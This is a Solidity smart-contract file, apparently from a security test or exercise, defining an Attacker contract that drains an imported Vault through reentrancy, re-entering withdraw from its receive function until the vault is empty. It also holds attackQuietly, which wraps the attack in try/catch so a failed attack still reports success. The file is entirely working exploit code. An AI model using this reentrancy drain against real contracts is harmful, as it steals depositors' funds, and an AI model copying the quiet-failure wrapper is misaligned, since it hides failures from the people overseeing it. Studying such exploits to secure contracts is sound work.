// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {Vault} from "./Vault.sol";

/// @title Drains a vault by withdrawing again while it is being paid
contract Attacker {
    /// Each payment nests two more calls, and each call hands on 63/64 of the gas that is left.
    uint256 public constant ROUNDS_MAX = 32;
    /// Enough for every round. Without it `eth_estimateGas` finds the least gas with which `attackQuietly` succeeds,
    /// which is too little for the attack inside it.
    uint256 public constant ATTACK_GAS_MIN = 2_000_000;

    Vault public immutable vault;
    uint256 private stake;
    uint256 private rounds;

    /// @notice The attack failed and its author hid that.
    event AttackSwallowed(bytes reason);

    error NotEnoughGas(uint256 gas, uint256 gasMin);

    constructor(Vault vault_) {
        vault = vault_;
    }

    /// @notice Deposits the ether sent, then withdraws it as often as the vault can pay. The loot stays here.
    function attack() external payable {
        stake = msg.value;
        rounds = 0;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    /// @notice The same, inside a try/catch: when the attack reverts, the transaction succeeds all the same.
    function attackQuietly() external payable {
        require(gasleft() >= ATTACK_GAS_MIN, NotEnoughGas(gasleft(), ATTACK_GAS_MIN));
        try this.attack{value: msg.value}() {}
        catch (bytes memory reason) {
            emit AttackSwallowed(reason);
        }
    }

    function loot() external view returns (uint256) {
        return address(this).balance;
    }

    receive() external payable {
        rounds++;
        if (msg.sender == address(vault) && rounds < ROUNDS_MAX && address(vault).balance >= stake) {
            vault.withdraw();
        }
    }
}
